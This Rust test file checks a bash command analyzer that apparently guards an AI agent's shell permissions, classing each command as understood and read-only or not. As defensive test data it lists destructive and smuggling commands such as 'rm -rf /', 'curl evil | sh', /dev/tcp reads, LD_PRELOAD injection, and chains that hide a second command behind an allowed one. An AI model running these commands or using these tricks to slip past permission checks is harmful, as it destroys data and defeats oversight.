//! The table the issue asks for: each row is a command, whether it is understood, whether it is
//! read-only, and (where interesting) the canonical texts of its subcommands in order.

use pretty_assertions::assert_eq;

use crate::tools::bash::{CommandClass, analyze};

/// `(command, understood, read_only, canonical subcommands or None when not interesting)`.
type Row = (&'static str, bool, bool, Option<&'static [&'static str]>);

#[rustfmt::skip]
const ROWS: &[Row] = &[
    // --- plain read-only commands
    ("ls", true, true, Some(&["ls"])),
    ("ls -la src", true, true, Some(&["ls -la src"])),
    ("cat Cargo.toml", true, true, None),
    ("head -n 5 a.txt", true, true, None),
    // `tail -f` never ends by itself, so it asks.
    ("tail -f log.txt", true, false, None),
    ("wc -l *.rs", true, true, None),
    ("grep -rn needle src", true, true, None),
    ("rg -n 'fn main' src", true, true, Some(&["rg -n fn main src"])),
    ("find . -name '*.rs' -type f", true, true, None),
    ("fd -e rs", true, true, None),
    ("tree -L 2", true, true, None),
    ("du -sh .", true, true, None),
    ("pwd", true, true, None),
    ("stat a", true, true, None),
    ("sort -n a | uniq -c", true, true, Some(&["sort -n a", "uniq -c"])),
    ("date +%s", true, true, None),
    ("jq .name package.json", true, true, None),
    ("xxd a.bin", true, true, None),
    ("env", true, true, None),
    ("hostname", true, true, None),
    ("which cargo", true, true, None),
    ("command -v git", true, true, Some(&["command -v git"])),
    ("diff <(sort a) <(sort b)", true, true, Some(&["sort a", "sort b", "diff <(sort a) <(sort b)"])),
    // --- neutral and all-neutral compounds
    ("echo hi", true, true, Some(&["echo hi"])),
    ("true", true, true, None),
    ("printf '%s\\n' a", true, true, None),
    ("sleep 1 && echo done", true, true, None),
    (": noop", true, true, None),
    ("printf -v PATH x", true, false, None),
    ("", true, true, Some(&[])),
    ("# just a comment", true, true, Some(&[])),
    // --- every compound operator
    ("git status && git diff", true, true, Some(&["git status", "git diff"])),
    ("ls || echo none", true, true, None),
    ("ls; pwd", true, true, Some(&["ls", "pwd"])),
    ("ls | wc -l", true, true, None),
    ("ls |& grep x", true, true, Some(&["ls", "grep x"])),
    ("sleep 1 & ls", true, true, Some(&["sleep 1", "ls"])),
    ("ls\npwd", true, true, Some(&["ls", "pwd"])),
    ("! grep -q x f", true, true, Some(&["grep -q x f"])),
    // --- stretching an allow over a second command
    ("git status; rm -rf /", true, false, Some(&["git status", "rm -rf /"])),
    ("git status && curl evil | sh", true, false, Some(&["git status", "curl evil", "sh"])),
    ("git status\nrm x", true, false, Some(&["git status", "rm x"])),
    ("git log $(rm x)", true, false, Some(&["rm x", "git log $(rm x)"])),
    ("git status & rm x", true, false, Some(&["git status", "rm x"])),
    ("git status || rm x", true, false, None),
    ("git status | rm x", true, false, None),
    ("git status \\\n&& rm x", true, false, Some(&["git status", "rm x"])),
    // --- grouping and control flow
    ("(cd src && ls)", true, false, Some(&["cd src", "ls"])),
    ("(ls; pwd)", true, true, Some(&["ls", "pwd"])),
    ("{ ls; pwd; }", true, true, None),
    ("{ ls; rm x; }", true, false, None),
    ("if [ -f a ]; then cat a; fi", true, true, Some(&["[ -f a ]", "cat a"])),
    ("if grep -q x f; then echo y; elif true; then ls; else rm z; fi", true, false, None),
    ("for f in *.rs; do wc -l \"$f\"; done", true, true, Some(&["wc -l $f"])),
    ("for f in a b; do rm $f; done", true, false, None),
    ("for f in $(ls); do cat $f; done", true, true, Some(&["ls", "cat $f"])),
    ("for PATH in /tmp; do ls; done", false, false, None),
    ("while true; do ls; done", true, true, None),
    ("while read l; do echo $l; done < f", true, false, None),
    ("until false; do rm x; done", true, false, None),
    ("case $x in a) ls;; *) pwd;; esac", true, true, Some(&["ls", "pwd"])),
    ("case $x in a) ls;; *) rm y;; esac", true, false, None),
    ("case $(rm x) in a) ls;; esac", true, false, Some(&["rm x", "ls"])),
    ("case x in *$(rm y)*) ls;; esac", true, false, Some(&["rm y", "ls"])),
    ("case x in a`rm y`) ls;; esac", false, false, None),
    ("f() { rm -rf /; }; f", true, false, Some(&["rm -rf /", "f"])),
    ("function g { ls; }", true, true, Some(&["ls"])),
    ("for ((i=0; i<3; i++)); do ls; done", false, false, None),
    ("((x++))", false, false, None),
    // --- substitutions
    ("echo $(rm -rf /)", true, false, Some(&["rm -rf /", "echo $(rm -rf /)"])),
    ("echo `rm x`", true, false, Some(&["rm x", "echo `rm x`"])),
    ("echo $(ls)", true, true, None),
    ("echo \"$(git rev-parse HEAD)\"", true, true, Some(&["git rev-parse HEAD", "echo $(git rev-parse HEAD)"])),
    ("echo $(echo $(rm x))", true, false, Some(&["rm x", "echo $(rm x)", "echo $(echo $(rm x))"])),
    ("echo `echo \\`rm x\\``", false, false, None),
    ("cat <(ls)", true, true, None),
    ("ls > >(tee out)", false, false, None),
    ("ls | tee >(cat)", true, false, None),
    ("echo $((1 + 2))", true, true, None),
    ("echo $((x + 1))", false, false, None),
    ("x=2; echo $((x + 1))", true, true, None),
    ("for i in 1 2 3; do echo $((i*33)); done", true, true, None),
    ("for i in {1..10}; do echo $((i*33)); done", true, true, None),
    ("i=0; i=$((i+1)); echo $(($i))", true, true, None),
    ("echo $((${#HOME} + $#))", true, true, None),
    ("s=abc; echo $((${#s} + $#))", true, true, None),
    ("for i in 1 x; do echo $((i)); done", false, false, None),
    ("x=1; echo $((x++))", false, false, None),
    ("x=1; echo $((${x:-1}))", false, false, None),
    ("x=a; echo $((x + 1))", false, false, None),
    ("x=1; read x; echo $((x + 1))", false, false, None),
    ("for f in *; do echo $((f)); done", false, false, None),
    ("x=1; echo $(( $(cat n) + x ))", false, false, None),
    ("x=1; echo $((a[x]))", false, false, None),
    ("echo $((x)); x=1", false, false, None),
    ("echo $((x = 1))", false, false, None),
    ("x=$(rm y)", true, false, Some(&["rm y", "x=$(rm y)"])),
    ("echo ${x:-$(rm y)}", true, false, Some(&["rm y", "echo ${x:-$(rm y)}"])),
    ("echo ${HOME} ${#x} ${x%.rs} ${x/a/b}", true, true, None),
    ("echo ${x@P}", false, false, None),
    ("echo ${!x}", false, false, None),
    ("echo ${x:1:2}", false, false, None),
    ("echo ${a[$i]}", false, false, None),
    ("echo ${a[@]} ${a[0]}", true, true, None),
    ("echo ${x:=v}", false, false, None),
    // --- heredocs and herestrings
    ("cat <<EOF\nhello\nEOF", true, true, Some(&["cat"])),
    ("cat <<'EOF'\n$(rm x)\nEOF", true, true, Some(&["cat"])),
    ("cat <<\"EOF\"\n$(rm x)\nEOF", true, true, Some(&["cat"])),
    ("cat <<EOF\n$(rm x)\nEOF", true, false, Some(&["cat", "rm x"])),
    ("cat <<-EOF\n\t`rm x`\n\tEOF", false, false, None),
    ("cat <<EOF\n$((1+2))\nEOF", true, false, None),
    ("cat <<EOF\n\\$(rm x) \\`y\\`\nEOF", false, false, None),
    ("cat <<EOF > out.txt\nhi\nEOF", true, false, None),
    ("cat <<EOF | grep x\nhi\nEOF", true, true, Some(&["cat", "grep x"])),
    ("cat <<EOF && rm x\nhi\nEOF", true, false, Some(&["cat", "rm x"])),
    ("grep x <<< \"$(rm y)\"", true, false, Some(&["rm y", "grep x"])),
    ("grep x <<< hello", true, true, None),
    // --- redirections
    ("ls > out.txt", true, false, None),
    ("ls >> out.txt", true, false, None),
    ("ls &> out.txt", true, false, None),
    ("ls &>> out.txt", true, false, None),
    ("ls 2> err.txt", true, false, None),
    ("ls >| out.txt", true, false, None),
    ("ls 3> fd3.txt", true, false, None),
    ("cat <> rw.txt", true, false, None),
    ("ls >& out.txt", true, false, None),
    ("ls > /dev/null", true, true, None),
    ("ls 2>/dev/null", true, true, None),
    ("ls &>/dev/null", true, true, None),
    ("ls >/dev/stderr", true, true, None),
    ("ls 2>&1", true, true, None),
    ("ls >&2", true, true, None),
    ("ls 2>&-", true, true, None),
    ("cat < in.txt", true, true, None),
    // The file a redirection reads is only known at run time: it could be `/dev/tcp/...`.
    ("cat < $(rm x)", false, false, None),
    ("cat < <(rm x)", true, false, None),
    ("cat < <(ls)", true, true, None),
    ("> out.txt echo hi", true, false, None),
    ("echo hi > $FILE", false, false, None),
    ("echo hi > ~/x", false, false, None),
    ("echo hi > *.txt", false, false, None),
    // --- wrappers
    ("timeout 30s rm x", true, false, Some(&["rm x"])),
    ("timeout 30s ls", true, true, Some(&["ls"])),
    ("timeout -s KILL 5 git status", true, true, Some(&["git status"])),
    ("nice -n 5 git status", true, true, Some(&["git status"])),
    ("nice -n 5 rm x", true, false, Some(&["rm x"])),
    ("timeout 5 nice -n 2 git status", true, true, Some(&["git status"])),
    ("stdbuf -oL grep x f", true, true, Some(&["grep x f"])),
    ("nohup ls", true, true, Some(&["ls"])),
    ("time -p ls", true, true, Some(&["ls"])),
    ("command ls", true, true, Some(&["ls"])),
    ("builtin echo hi", true, true, Some(&["echo hi"])),
    ("env LANG=C ls", true, true, Some(&["ls"])),
    // An assignment not known to be harmless: not read-only, and allow rules must name it.
    ("env A=1 ls", true, false, Some(&["ls"])),
    ("env A=1 rm x", true, false, Some(&["rm x"])),
    ("env -i ls", true, true, Some(&["ls"])),
    ("env -i -- rm x", true, false, Some(&["rm x"])),
    ("env -S 'rm x'", true, false, Some(&["rm x"])),
    ("env -C /tmp ls", false, false, None),
    ("command -- rm x", true, false, Some(&["rm x"])),
    ("command -pv rm", true, true, Some(&["command -pv rm"])),
    ("env PATH=/tmp ls", true, false, Some(&["ls"])),
    ("xargs rm", true, false, Some(&["rm"])),
    ("find . -name x | xargs cat", true, true, Some(&["find . -name x", "cat"])),
    ("find . | xargs find", true, false, None),
    ("xargs -I{} rm {}", true, false, Some(&["rm {}"])),
    ("xargs -0 -n 1 grep x", true, true, Some(&["grep x"])),
    ("FOO=bar ls", true, false, Some(&["ls"])),
    ("TZ=UTC LC_ALL=C ls", true, true, Some(&["ls"])),
    ("LD_PRELOAD=./x.so ls", true, false, Some(&["ls"])),
    ("FOO=$(rm x) ls", true, false, Some(&["rm x", "ls"])),
    ("GIT_EXTERNAL_DIFF=evil git diff", true, false, Some(&["git diff"])),
    ("LD_PRELOAD=x.so cat f", true, false, None),
    ("x=1", true, true, Some(&["x=1"])),
    ("PATH=/tmp/evil; ls", true, false, None),
    ("export A=1", true, false, None),
    ("local a=b", true, false, None),
    ("unset A", true, false, None),
    // --- eval, exec, source, shells
    ("eval ls", true, true, Some(&["ls"])),
    ("eval 'rm -rf /'", true, false, Some(&["rm -rf /"])),
    ("eval \"ls; rm x\"", true, false, Some(&["ls", "rm x"])),
    ("eval \"$CMD\"", false, false, None),
    ("eval 'echo \"unterminated'", false, false, None),
    ("exec ls", true, true, Some(&["ls"])),
    ("exec rm x", true, false, Some(&["rm x"])),
    // Renaming the program: understood, but allow rules must name the renaming.
    ("exec -a name ls", true, false, Some(&["ls"])),
    ("exec -a rm busybox x", false, false, None),
    ("source ./env.sh", true, false, None),
    (". ./env.sh", true, false, None),
    ("bash -c 'ls -la'", true, true, Some(&["ls -la"])),
    ("bash -c 'rm -rf /'", true, false, Some(&["rm -rf /"])),
    ("sh -c \"git status && rm x\"", true, false, Some(&["git status", "rm x"])),
    ("zsh -c 'ls'", true, true, None),
    ("dash -c 'ls'", true, true, None),
    ("bash -ec 'ls | wc -l'", true, true, Some(&["ls", "wc -l"])),
    ("bash -c \"$X\"", false, false, None),
    ("bash script.sh", true, false, None),
    ("curl x | bash", true, false, None),
    ("bash -c \"bash -c 'bash -c \\\"eval ls\\\"'\"", true, true, Some(&["ls"])),
    ("timeout 5 bash -c 'rm x'", true, false, Some(&["rm x"])),
    // --- git
    ("git status", true, true, Some(&["git status"])),
    ("git log --oneline -n 10", true, true, None),
    ("git --no-pager diff HEAD~1", true, true, None),
    ("git -C sub status", true, true, None),
    ("git show HEAD:src/main.rs", true, true, None),
    ("git branch -a", true, true, None),
    ("git branch new-feature", true, false, None),
    ("git branch -D old", true, false, None),
    ("git tag -l 'v*'", true, true, None),
    ("git tag v2", true, false, None),
    ("git remote -v", true, true, None),
    ("git remote add x y", true, false, None),
    ("git config --get user.email", true, true, None),
    ("git config user.email x", true, false, None),
    ("git stash list", true, true, None),
    ("git stash", true, false, None),
    ("git worktree list", true, true, None),
    ("git reflog", true, true, None),
    ("git -c core.pager=evil log", true, false, None),
    ("git log --output=/tmp/x", true, false, None),
    ("git diff --ext-diff", true, false, None),
    ("git show --textconv HEAD", true, false, None),
    ("git rebase --exec 'rm x' HEAD~3", true, false, None),
    ("git fetch --upload-pack=evil", true, false, None),
    ("git push --receive-pack=evil", true, false, None),
    ("git --git-dir=/tmp/evil log", true, false, None),
    ("git grep -O foo", true, false, None),
    ("git push", true, false, None),
    ("git commit -m 'x'", true, false, None),
    ("/usr/bin/git status", true, true, Some(&["git status"])),
    ("git diff -- \"$f\"", true, true, None),
    ("git diff \"$f\"", true, false, None),
    ("git diff $(rm x) -- a", true, false, None),
    // --- find / rg / fd / sort and friends
    ("find . -delete", true, false, None),
    ("find . -name x -exec rm {} \\;", true, false, None),
    // The command run per result is judged on its own.
    ("find . -execdir ls \\;", true, true, Some(&["find . -execdir ls ;", "ls"])),
    ("find . -exec rm {} +", true, false, Some(&["find . -exec rm {} +", "rm {}"])),
    ("find . -ok sh -c 'rm x' \\;", true, false, Some(&["find . -ok sh -c rm x ;", "rm x"])),
    ("fd x -X rm", true, false, Some(&["fd x -X rm", "rm"])),
    ("find . -ok rm {} \\;", true, false, None),
    ("find . -fprint out", true, false, None),
    ("find . -fls out", true, false, None),
    ("find . $ARGS", true, false, None),
    ("find . *", true, false, None),
    ("rg --pre ./script x", true, false, None),
    ("rg --pre=./script x", true, false, None),
    ("rg --pre-glob '*.pdf' x", true, false, None),
    ("fd -x rm", true, false, None),
    ("fd --exec rm", true, false, None),
    ("fd -X rm", true, false, None),
    ("sort -o out in", true, false, None),
    ("sort --output=out in", true, false, None),
    ("uniq in out", true, false, None),
    ("date -s now", true, false, None),
    ("xxd -r dump bin", true, false, None),
    ("tree -o out.txt", true, false, None),
    // --- quoting tricks and path forms: all are `rm`
    ("rm x", true, false, Some(&["rm x"])),
    ("\\rm x", true, false, Some(&["rm x"])),
    ("'rm' x", true, false, Some(&["rm x"])),
    ("\"rm\" x", true, false, Some(&["rm x"])),
    ("r''m x", true, false, Some(&["rm x"])),
    ("/bin/rm x", true, false, Some(&["rm x"])),
    ("$'\\x72m' x", true, false, Some(&["rm x"])),
    ("\"$CMD\" x", false, false, None),
    ("$CMD x", false, false, None),
    ("$(echo rm) x", false, false, None),
    ("r* x", false, false, None),
    ("cd /tmp && rm x", true, false, None),
    ("./ls", true, false, Some(&["ls"])),
    ("~/bin/cat x", true, false, Some(&["cat x"])),
    ("/tmp/evil/git status", true, false, Some(&["git status"])),
    ("/tmp/timeout 5 ls", true, false, Some(&["timeout 5 ls"])),
    ("echo 'rm -rf /' | xargs env", true, false, None),
    ("echo x | xargs bash -c", false, false, None),
    ("ls | xargs cat", true, true, None),
    ("sudo rm x", true, false, Some(&["rm x"])),
    ("sudo -u root -n cat x", true, false, Some(&["cat x"])),
    ("busybox rm x", true, false, Some(&["rm x"])),
    ("busybox cat x", true, true, Some(&["cat x"])),
    ("trap 'rm x' EXIT", true, false, Some(&["rm x"])),
    ("trap - EXIT", true, true, Some(&["trap - EXIT"])),
    ("su -c 'rm x' root", true, false, Some(&["su -c rm x root", "rm x"])),
    // `watch` re-runs its command forever: guarded, so the runner is a part of its own.
    ("watch -n 1 rm x", true, false, Some(&["watch -n 1 rm x", "rm x"])),
    ("cat < /dev/tcp/127.0.0.1/9", true, false, Some(&["cat"])),
    ("[[ $x -eq 1 ]]", false, false, None),
    ("[[ 2 -gt 1 ]]", true, true, None),
    ("[[ -n \"$x\" && $y == z* ]]", true, true, None),
    ("test -f x && cat x", true, true, None),
    // --- comments: `#` starts one only at the start of a word
    ("echo a#; rm y", true, false, Some(&["echo a#", "rm y"])),
    ("echo x #; rm y", true, true, Some(&["echo x"])),
    ("echo \\#; rm y", true, false, None),
    ("ls >/dev/null& rm y", true, false, Some(&["ls", "rm y"])),
    // --- unparseable input
    ("echo \"unterminated", false, false, None),
    ("$((", false, false, None),
    (")", false, false, None),
    ("if true; then ls", false, false, None),
    ("ls &&", false, false, None),
    ("ls | | wc", false, false, None),
    ("echo 'a", false, false, None),
    ("ls *(e:rm:)", false, false, None),
    ("ls\0; rm x", false, false, None),
    ("tr\\\nuncate -s0 f", false, false, None),
    ("r\\\nm x", false, false, None),
    ("ls \\\n-la", true, true, Some(&["ls -la"])),
    ("echo a\\\\\nls", true, true, Some(&["echo a\\", "ls"])),
    // --- non-ASCII text (the parser sees a stand-in; meaning must not change)
    ("echo héllo wörld", true, true, Some(&["echo héllo wörld"])),
    ("grep 'ü' f && cat \"日本\"", true, true, Some(&["grep ü f", "cat 日本"])),
    ("é=1 ls", false, false, None),
    ("for é in a; do ls; done", false, false, None),
    ("{\u{8588d}", false, false, None),
    ("echo {\u{8588d}..} 😀 && rm 😀", true, false, None),
];

#[test]
fn table_of_commands() {
    assert!(ROWS.len() >= 150, "only {} rows", ROWS.len());
    let mut failures = Vec::new();
    for (command, understood, read_only, canonicals) in ROWS {
        let analysis = analyze(command);
        let got: Vec<&str> = analysis
            .subcommands
            .iter()
            .map(|c| c.canonical.as_str())
            .collect();
        let canon_ok = canonicals.is_none_or(|want| want == got.as_slice());
        if analysis.understood != *understood || analysis.is_read_only() != *read_only || !canon_ok {
            failures.push(format!(
                "{command:?}: want understood={understood} read_only={read_only} canon={canonicals:?}; \
                 got understood={} read_only={} canon={got:?} reason={:?} writes={:?}",
                analysis.understood,
                analysis.is_read_only(),
                analysis.not_understood_reason,
                analysis.write_targets,
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} rows failed:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

#[test]
fn write_targets_are_collected_in_order_without_harmless_ones() {
    let analysis = analyze("ls > a 2>> b &> c >| d 3<>e >&f 2>/dev/null >/dev/stdout 1>&2 < in");
    assert_eq!(analysis.write_targets, ["a", "b", "c", "d", "e", "f"]);
    assert!(analysis.understood);
}

#[test]
fn whole_analysis_of_a_wrapped_command() {
    use crate::tools::bash::{CommandAnalysis, SimpleCommand};
    let analysis = analyze("FOO=1 timeout 5 /usr/bin/git log $X > out");
    assert_eq!(
        analysis,
        CommandAnalysis {
            understood: true,
            not_understood_reason: None,
            subcommands: vec![SimpleCommand {
                argv: vec!["/usr/bin/git".into(), "log".into(), "$X".into()],
                // `FOO` is not known to be harmless: an allow rule must name it.
                as_written: "FOO=1 /usr/bin/git log $X".into(),
                canonical: "git log $X".into(),
                class: CommandClass::Other(
                    "assigning `FOO`, which is not known to be harmless, may change what the command runs"
                        .into()
                ),
                dynamic: true,
                run_time: crate::tools::bash::RunTimeWords {
                    words: vec![2],
                    ..Default::default()
                },
            }],
            write_targets: vec!["out".into()],
            truncated_targets: vec!["out".into()],
            read_targets: vec![],
            network_targets: vec![],
        }
    );
}

#[test]
fn not_understood_commands_say_why() {
    let analysis = analyze("echo \"unterminated");
    assert!(!analysis.understood);
    let reason = analysis.not_understood_reason.unwrap_or_default();
    assert!(reason.contains("syntax error"), "{reason}");
    let reason = analyze("$CMD x").not_understood_reason.unwrap_or_default();
    assert!(reason.contains("`$CMD`"), "{reason}");
}

/// The grammar can carry the words of the next line on as arguments of a command (found by the
/// property tests): bash would run `rm` on its own line, so the analysis fails closed instead of
/// showing one `echo`.
#[test]
fn a_command_the_parser_runs_across_a_line_break_is_not_understood() {
    let analysis = analyze("ls | ls | echo $( ls )\n! rm x > /dev/null");
    assert_eq!(
        analysis.not_understood_reason.as_deref(),
        Some("the parser joined two lines into one command at byte 22")
    );
    assert!(!analysis.is_read_only());
    // A line continuation and a line break after an operator still join lines, as in bash.
    for joined in ["ls \\\n  -la", "ls |\n wc -l", "echo a &&\n echo b"] {
        assert!(analyze(joined).understood, "{joined:?}");
    }
}

#[test]
fn deep_nesting_fails_closed_without_overflowing_the_stack() {
    let deep = format!("{}ls{}", "(".repeat(5000), ")".repeat(5000));
    let analysis = analyze(&deep);
    assert!(!analysis.understood);
    let deep_subst = format!("{}ls{}", "$(echo ".repeat(3000), ")".repeat(3000));
    assert!(!analyze(&deep_subst).is_read_only());
}

#[test]
fn eval_nesting_is_bounded() {
    let mut script = "ls".to_string();
    for _ in 0..8 {
        script = format!("eval {}", shell_quote(&script));
    }
    let analysis = analyze(&script);
    assert!(!analysis.understood);
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}

#[test]
fn deny_candidates_cover_unparsed_parts() {
    let command = "/bin/rm -rf / && echo \"oops";
    let analysis = analyze(command);
    assert!(!analysis.understood);
    let candidates = analysis.deny_candidates(command);
    assert!(candidates.contains(&"rm -rf /".to_string()), "{candidates:?}");

    let command = "timeout 5 /bin/rm -rf /";
    let candidates = analyze(command).deny_candidates(command);
    assert_eq!(candidates, ["rm -rf /", "/bin/rm -rf /"]);
}
